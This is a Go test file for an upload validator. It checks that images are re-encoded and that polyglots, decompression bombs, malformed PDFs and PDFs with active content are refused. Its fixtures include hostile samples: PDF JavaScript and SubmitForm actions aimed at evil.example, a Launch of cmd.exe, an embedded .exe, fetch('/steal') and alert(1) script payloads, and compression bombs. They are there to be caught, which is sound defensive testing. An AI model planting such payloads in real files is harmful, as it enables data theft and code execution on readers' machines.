package upload

import (
	"bytes"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"runtime"
	"strings"
	"testing"

	"tenger/internal/apperr"
)

var (
	imagesOnly = []Kind{KindJPEG, KindPNG}
	documents  = []Kind{KindJPEG, KindPNG, KindPDF}
)

// codeOf is the catalogue code of err ("" for nil).
func codeOf(err error) string {
	if err == nil {
		return ""
	}
	var ae *apperr.Error
	if errors.As(err, &ae) {
		return ae.Entry.Code
	}
	return "not a catalogue error: " + err.Error()
}

func mustCheck(t *testing.T, data []byte, allowed []Kind) Checked {
	t.Helper()
	c, err := Check(data, allowed, DefaultLimits)
	if err != nil {
		t.Fatalf("refused: %v", err)
	}
	return c
}

func refused(t *testing.T, name string, data []byte, allowed []Kind, lim Limits, code string) {
	t.Helper()
	_, err := Check(data, allowed, lim)
	if got := codeOf(err); got != code {
		t.Errorf("%s: %s (%v), want %s", name, got, err, code)
	}
}

func TestSniff(t *testing.T) {
	for name, c := range map[string]struct {
		head []byte
		want Kind
	}{
		"jpeg":          {[]byte{0xFF, 0xD8, 0xFF, 0xE0}, KindJPEG},
		"png":           {magicPNG, KindPNG},
		"pdf":           {[]byte("%PDF-1.7\n"), KindPDF},
		"pdf late":      {[]byte("\n%PDF-1.7"), KindUnknown},
		"gif":           {[]byte("GIF89a"), KindUnknown},
		"webp":          {[]byte("RIFF\x00\x00\x00\x00WEBP"), KindUnknown},
		"zip":           {[]byte("PK\x03\x04"), KindUnknown},
		"html":          {[]byte("<html><script>"), KindUnknown},
		"short png":     {magicPNG[:7], KindUnknown},
		"short jpeg":    {[]byte{0xFF, 0xD8}, KindUnknown},
		"empty":         {nil, KindUnknown},
		"text as png":   {[]byte("just some text, named photo.png"), KindUnknown},
		"svg":           {[]byte("<svg xmlns="), KindUnknown},
		"utf8 bom pdf":  {[]byte("\xef\xbb\xbf%PDF-1.4"), KindUnknown},
		"png signature": {[]byte("\x89PNG\r\n\x1a\n\x00"), KindPNG},
	} {
		if got := Sniff(c.head); got != c.want {
			t.Errorf("%s: %v, want %v", name, got, c.want)
		}
	}
}

func TestValidImagesAreReencoded(t *testing.T) {
	for name, data := range map[string][]byte{"jpeg": jpegFile(t, 120, 80), "png": pngFile(t, 120, 80)} {
		c := mustCheck(t, data, imagesOnly)
		if c.Width != 120 || c.Height != 80 || Sniff(c.Data) != c.Kind || c.Kind.String() != strings.ToUpper(name) {
			t.Errorf("%s: %v %dx%d", name, c.Kind, c.Width, c.Height)
		}
		if _, _, err := image.Decode(bytes.NewReader(c.Data)); err != nil {
			t.Errorf("%s: output does not decode: %v", name, err)
		}
	}
}

// EXIF goes (with the place it names), the orientation it gave is kept
// in the pixels: orientation 6 turns a 64×32 image whose left half is red
// into a 32×64 one whose top half is red.
func TestJPEGExifStrippedAndOrientationApplied(t *testing.T) {
	const secret = "GPS 47.9184N 106.9177E, Sony A7 serial 4411"
	data := withSegments(jpegFile(t, 64, 32), exifSegment(6, secret))
	if jpegOrientation(data) != 6 {
		t.Fatalf("orientation %d", jpegOrientation(data))
	}
	c := mustCheck(t, data, imagesOnly)
	if bytes.Contains(c.Data, []byte("Exif")) || bytes.Contains(c.Data, []byte("GPS 47")) {
		t.Fatal("EXIF survived re-encoding")
	}
	if jpegOrientation(c.Data) != 1 {
		t.Fatal("re-encoded file still has an orientation")
	}
	img, err := jpeg.Decode(bytes.NewReader(c.Data))
	if err != nil {
		t.Fatal(err)
	}
	if b := img.Bounds(); b.Dx() != 32 || b.Dy() != 64 || c.Width != 32 || c.Height != 64 {
		t.Fatalf("turned image %v (%dx%d)", b, c.Width, c.Height)
	}
	red := func(x, y int) bool {
		r, _, b, _ := img.At(x, y).RGBA()
		return r > 2*b
	}
	if !red(16, 8) || red(16, 56) {
		t.Fatal("orientation 6 did not put the left (red) half on top")
	}
}

// Every orientation lands row 0 and column 0 where EXIF says, for the
// planes of every form the JPEG decoder makes.
func TestOrientAllForms(t *testing.T) {
	// A 3×2 grey image with distinct pixels:  1 2 3 / 4 5 6.
	src := image.NewGray(image.Rect(0, 0, 3, 2))
	copy(src.Pix, []byte{1, 2, 3, 4, 5, 6})
	want := map[int]string{
		1: "1 2 3/4 5 6", 2: "3 2 1/6 5 4", 3: "6 5 4/3 2 1", 4: "4 5 6/1 2 3",
		5: "1 4/2 5/3 6", 6: "4 1/5 2/6 3", 7: "6 3/5 2/4 1", 8: "3 6/2 5/1 4",
	}
	for o := 1; o <= 8; o++ {
		g := orient(src, o).(*image.Gray)
		var rows []string
		for y := 0; y < g.Bounds().Dy(); y++ {
			var cells []string
			for x := 0; x < g.Bounds().Dx(); x++ {
				cells = append(cells, fmt.Sprint(g.GrayAt(x, y).Y))
			}
			rows = append(rows, strings.Join(cells, " "))
		}
		if got := strings.Join(rows, "/"); got != want[o] {
			t.Errorf("orientation %d: %s, want %s", o, got, want[o])
		}
	}
	// YCbCr 4:2:2 turns into 4:4:0 with the same colours where they go.
	for _, ratio := range []image.YCbCrSubsampleRatio{image.YCbCrSubsampleRatio444, image.YCbCrSubsampleRatio422,
		image.YCbCrSubsampleRatio420, image.YCbCrSubsampleRatio440, image.YCbCrSubsampleRatio411} {
		y := image.NewYCbCr(image.Rect(0, 0, 7, 5), ratio)
		for i := range y.Y {
			y.Y[i] = byte(i * 3)
		}
		for i := range y.Cb {
			y.Cb[i], y.Cr[i] = byte(i*7), byte(255-i)
		}
		for o := 2; o <= 8; o++ {
			turned := orient(y, o)
			if o >= 5 && (turned.Bounds().Dx() != 5 || turned.Bounds().Dy() != 7) || o < 5 && turned.Bounds().Dx() != 7 {
				t.Fatalf("%v o%d: bounds %v", ratio, o, turned.Bounds())
			}
			// Source pixel (0, 0) must land where row 0 and column 0 go.
			at := map[int][2]int{2: {6, 0}, 3: {6, 4}, 4: {0, 4}, 5: {0, 0}, 6: {4, 0}, 7: {4, 6}, 8: {0, 6}}[o]
			dx, dy := at[0], at[1]
			if a, b := fmt.Sprint(color.RGBAModel.Convert(turned.At(dx, dy))), fmt.Sprint(color.RGBAModel.Convert(y.At(0, 0))); a != b {
				t.Errorf("%v o%d: (0,0) %s landed as %s at (%d,%d)", ratio, o, b, a, dx, dy)
			}
		}
	}
}

// A 1 KB PNG that claims 100000×100000 pixels (and JPEGs that claim
// 65000×65000) are refused from their headers, without the gigabytes a
// decode would allocate.
func TestDecompressionBombsRefusedBeforeDecoding(t *testing.T) {
	bombs := map[string][]byte{
		"png 100000x100000": pngBomb(100000, 100000),
		"png 10001x10":      pngBomb(10001, 10),
		"png 6000x5000":     pngBomb(6000, 5000), // 30 MP, each side fine
		"jpeg 65000x65000":  jpegBomb(t, 65000, 65000),
	}
	for name, b := range bombs {
		if len(b) > 2048 {
			t.Fatalf("%s is %d bytes", name, len(b))
		}
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		refused(t, name, b, imagesOnly, DefaultLimits, apperr.CodeUploadPixels)
		runtime.ReadMemStats(&after)
		if d := after.TotalAlloc - before.TotalAlloc; d > 1<<20 {
			t.Errorf("%s: %d bytes allocated before refusing", name, d)
		}
	}
	// Within the limits the same construction is decoded (and found short).
	refused(t, "png 200x200 with too little data", pngBomb(200, 200), imagesOnly, DefaultLimits, apperr.CodeUploadCorrupt)
}

func TestCorruptImagesRefused(t *testing.T) {
	j, p := jpegFile(t, 200, 150), pngFile(t, 200, 150)
	cases := map[string][]byte{
		"jpeg cut in half":   j[:len(j)/2],
		"jpeg header only":   j[:20],
		"png cut in half":    p[:len(p)/2],
		"png header only":    p[:30],
		"png bad crc":        append(append([]byte{}, p[:20]...), append([]byte{p[20] ^ 0xFF}, p[21:]...)...),
		"jpeg magic only":    {0xFF, 0xD8, 0xFF},
		"png magic only":     magicPNG,
		"png zero width":     pngBomb(0, 10),
		"jpeg garbage after": append([]byte{0xFF, 0xD8, 0xFF, 0xE0}, bytes.Repeat([]byte{0x55}, 500)...),
	}
	for name, b := range cases {
		refused(t, name, b, imagesOnly, DefaultLimits, apperr.CodeUploadCorrupt)
	}
}

// The type is the bytes', whatever the file was called: a text file
// renamed photo.png is refused; so is a PDF where only images go, and
// GIF, WebP, SVG and HTML anywhere.
func TestTypesByContent(t *testing.T) {
	refused(t, "text named .png", []byte("Name: Bat\nPassport: E1234567\n"), documents, DefaultLimits, apperr.CodeUploadType)
	refused(t, "pdf as image", plainPDF(""), imagesOnly, DefaultLimits, apperr.CodeUploadType)
	refused(t, "gif", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), documents, DefaultLimits, apperr.CodeUploadType)
	refused(t, "svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), documents, DefaultLimits, apperr.CodeUploadType)
	refused(t, "html", []byte("<!doctype html><script>alert(1)</script>"), documents, DefaultLimits, apperr.CodeUploadType)
	refused(t, "empty", nil, documents, DefaultLimits, apperr.CodeUploadFileMissing)
	_, err := Check([]byte("text"), imagesOnly, DefaultLimits)
	if msg := apperr.As(err).Message(apperr.LangEN); !strings.Contains(msg, "JPEG, PNG") || strings.Contains(msg, "PDF") {
		t.Errorf("message %q does not list the accepted types", msg)
	}
}

// Polyglots are neutralised by the re-encoding: a JPEG that also reads
// as a PDF (its header in a comment near the start) and a PNG with a zip
// and HTML after its end keep only their pixels. A PDF with a zip after
// %%EOF is refused, and so is one whose header is not at byte 0.
func TestPolyglots(t *testing.T) {
	pdfInside := withSegments(jpegFile(t, 40, 40), segment(0xFE, []byte("%PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF")))
	if !bytes.Contains(pdfInside[:1024], []byte("%PDF-")) {
		t.Fatal("the polyglot should carry a PDF header in its first 1024 bytes, where readers look")
	}
	c := mustCheck(t, pdfInside, documents)
	if c.Kind != KindJPEG || bytes.Contains(c.Data, []byte("%PDF")) || bytes.Contains(c.Data, []byte("JavaScript")) {
		t.Fatalf("JPEG/PDF polyglot kept its PDF (%v)", c.Kind)
	}

	zip := []byte("PK\x03\x04\x14\x00\x00\x00\x08\x00payload.exe PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00")
	html := []byte("<html><script>fetch('/steal')</script></html>")
	trailing := append(append(pngFile(t, 40, 40), zip...), html...)
	c = mustCheck(t, trailing, documents)
	if bytes.Contains(c.Data, []byte("PK\x03\x04")) || bytes.Contains(c.Data, []byte("<script>")) {
		t.Fatal("PNG polyglot kept what followed IEND")
	}

	refused(t, "pdf + zip", append(plainPDF(""), zip...), documents, DefaultLimits, apperr.CodeUploadCorrupt)
	refused(t, "pdf + html", append(plainPDF(""), html...), documents, DefaultLimits, apperr.CodeUploadCorrupt)
	refused(t, "zip then pdf", append(append([]byte{}, zip...), plainPDF("")...), documents, DefaultLimits, apperr.CodeUploadType)
}

func TestPDFAccepted(t *testing.T) {
	for name, pdf := range map[string][]byte{
		"plain":          plainPDF(""),
		"goto open":      plainPDF("/OpenAction [3 0 R /Fit]"),
		"uri link":       plainPDF("/URI << /Base (https://tenger.mn/) >>"),
		"trailing space": append(plainPDF(""), "\r\n\n  \x00"...),
		"object stream": pdfFile(
			"<< /Type /Catalog /Pages 2 0 R >>",
			objStm(3, "<< /Type /Pages /Kids [] /Count 0 >>", "<< /Producer (Scanner 3000) >>"),
			"<< /Type /Pages /Kids [] /Count 0 >>"),
		"indirect length": pdfFile("<< /Type /Catalog >>",
			"<< /Length 3 0 R >>\nstream\nhello\nendstream", "5"),
		// "/JS" turns up by chance in compressed image data; image data
		// is scanned for the long names only.
		"short name in jpeg data": pdfFile("<< /Type /Catalog >>",
			streamObj("/Type /XObject /Subtype /Image /Filter /DCTDecode", append(jpegFile(t, 8, 8), "/JS "...))),
		"predictor xref-like": pdfFile("<< /Type /Catalog >>",
			streamObj("/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>", deflate([]byte{2, 1, 2, 3, 4, 2, 0, 0, 0, 1}))),
	} {
		c, err := Check(pdf, documents, DefaultLimits)
		if err != nil || c.Kind != KindPDF || !bytes.Equal(c.Data, pdf) {
			t.Errorf("%s: refused: %v", name, err)
		}
	}
}

// Active content is refused wherever it hides: in plain objects, with
// escaped names, in compressed object streams, behind a PNG predictor,
// and as attachments or triggers.
func TestPDFActiveContentRefused(t *testing.T) {
	js := "<< /S /JavaScript /JS (app.launchURL('https://evil.example')) >>"
	hidden := func(o string) []byte {
		return pdfFile("<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", objStm(3, o), "<< /Type /Pages /Kids [] /Count 0 >>")
	}
	// The same object stream with each row run through the PNG Up filter:
	// its text is unreadable until the predictor is undone.
	predicted := func(o string, withParms bool) []byte {
		data := []byte(fmt.Sprintf("3 0 %s\n", o))
		const cols = 8
		var rows []byte
		prev := make([]byte, cols)
		for i := 0; i < len(data); i += cols {
			row := make([]byte, cols)
			copy(row, data[i:min(i+cols, len(data))])
			rows = append(rows, 2)
			for j := range row {
				rows = append(rows, row[j]-prev[j])
			}
			prev = row
		}
		parms := fmt.Sprintf("/DecodeParms << /Predictor 12 /Columns %d >>", cols)
		if !withParms {
			parms = ""
		}
		return pdfFile("<< /Type /Catalog >>", streamObj("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode "+parms, deflate(rows)))
	}
	// Without its predictor the script is unreadable: only undoing it, as
	// a reader does, finds it.
	if _, err := Check(predicted(js, false), documents, DefaultLimits); err != nil {
		t.Fatalf("the predicted rows read as text without the predictor: %v", err)
	}
	cases := map[string][]byte{
		"openaction js":        plainPDF("/OpenAction " + js),
		"escaped name":         plainPDF("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
		"names javascript":     plainPDF("/Names << /JavaScript << /Names [(x) 6 0 R] >> >>"),
		"launch":               plainPDF("/OpenAction << /S /Launch /F (cmd.exe) >>"),
		"submit form":          plainPDF("/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
		"additional actions":   plainPDF("/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>"),
		"embedded file":        plainPDF("/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 6 0 R >> >>] >> >>"),
		"file attachment":      plainPDF("/Annots [<< /Subtype /FileAttachment >>]"),
		"xfa":                  plainPDF("/AcroForm << /XFA 6 0 R >>"),
		"encrypted":            []byte(strings.Replace(string(plainPDF("")), "/Root 1 0 R", "/Root 1 0 R /Encrypt << /Filter /Standard >>", 1)),
		"js in object stream":  hidden(js),
		"aa in object stream":  hidden("<< /Type /Page /AA << /O << /S /GoTo >> >> >>"),
		"js behind predictor":  predicted(js, true),
		"js in content stream": pdfFile("<< /Type /Catalog >>", streamObj("/Filter /FlateDecode", deflate([]byte("q /JavaScript gs Q")))),
		"ascii85 filter":       pdfFile("<< /Type /Catalog >>", streamObj("/Filter /ASCII85Decode", []byte("87cURD]i,\"Ebo80~>"))),
		"indirect filter":      pdfFile("<< /Type /Catalog >>", streamObj("/Filter 3 0 R", []byte("x")), "/FlateDecode"),
		"js in a string":       plainPDF("/Title (/JavaScript)"),
		"js behind two flates": pdfFile("<< /Type /Catalog >>",
			streamObj("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", deflate(deflate([]byte("3 0 "+js))))),
		"js in a later stream": pdfFile("<< /Type /Catalog >>", streamObj("/Filter /FlateDecode", deflate([]byte("q Q"))),
			streamObj("/Filter /FlateDecode", deflate([]byte("BT ET"))), objStm(5, js)),
	}
	for name, pdf := range cases {
		refused(t, name, pdf, documents, DefaultLimits, apperr.CodeUploadPDFActive)
	}
}

func TestPDFStructureRefused(t *testing.T) {
	good := plainPDF("")
	noEOF := bytes.TrimSuffix(bytes.TrimRight(good, "\n"), []byte("%%EOF"))
	wrongLength := []byte(strings.Replace(string(good), "/Length ", "/Length 1", 1))
	cases := map[string][]byte{
		"no %%EOF":           noEOF,
		"header only":        []byte("%PDF-1.7\n%%EOF\n"),
		"bad version":        append([]byte("%PDF-x"), good[6:]...),
		"truncated":          good[:len(good)/2],
		"wrong length":       wrongLength,
		"unterminated":       pdfFile("<< /Type /Catalog /Title (open >>"),
		"junk between":       append(append([]byte{}, good[:len(good)-60]...), append([]byte(" (loose string) "), good[len(good)-60:]...)...),
		"ambiguous length":   pdfFile("<< /Type /Catalog >>", "<< /Length 3 0 R >>\nstream\nhello\nendstream", "5", "x"),
		"stream without eol": []byte(strings.Replace(string(plainPDF("")), "stream\n", "stream ", 1)),
	}
	// The ambiguous case defines object 3 twice with different lengths.
	cases["ambiguous length"] = append(cases["ambiguous length"][:0:0], bytes.Replace(cases["ambiguous length"], []byte("4 0 obj\nx\nendobj"), []byte("3 0 obj\n9\nendobj"), 1)...)
	for name, pdf := range cases {
		refused(t, name, pdf, documents, DefaultLimits, apperr.CodeUploadCorrupt)
	}
}

// A compression bomb inside a PDF is refused once its streams inflate
// past the limit, not inflated to the end.
func TestPDFInflateBounded(t *testing.T) {
	bomb := pdfFile("<< /Type /Catalog >>", streamObj("/Filter /FlateDecode", deflate(make([]byte, 8<<20))))
	if len(bomb) > 64<<10 {
		t.Fatalf("bomb is %d bytes", len(bomb))
	}
	lim := DefaultLimits
	lim.MaxPDFInflate = 1 << 20
	refused(t, "8 MB of zeros", bomb, documents, lim, apperr.CodeUploadPDFActive)
	if _, err := Check(bomb, documents, DefaultLimits); err != nil {
		t.Fatalf("within the default limit: %v", err)
	}
}

// PNGs of the other forms the decoder makes (16-bit, paletted, grey)
// are re-encoded too.
func TestPNGForms(t *testing.T) {
	for name, img := range map[string]image.Image{
		"nrgba64":  image.NewNRGBA64(image.Rect(0, 0, 9, 7)),
		"paletted": image.NewPaletted(image.Rect(0, 0, 9, 7), []color.Color{color.Black, color.White}),
		"gray16":   image.NewGray16(image.Rect(0, 0, 9, 7)),
	} {
		var b bytes.Buffer
		if err := png.Encode(&b, img); err != nil {
			t.Fatal(err)
		}
		c := mustCheck(t, b.Bytes(), imagesOnly)
		if c.Width != 9 || c.Height != 7 {
			t.Errorf("%s: %dx%d", name, c.Width, c.Height)
		}
	}
}
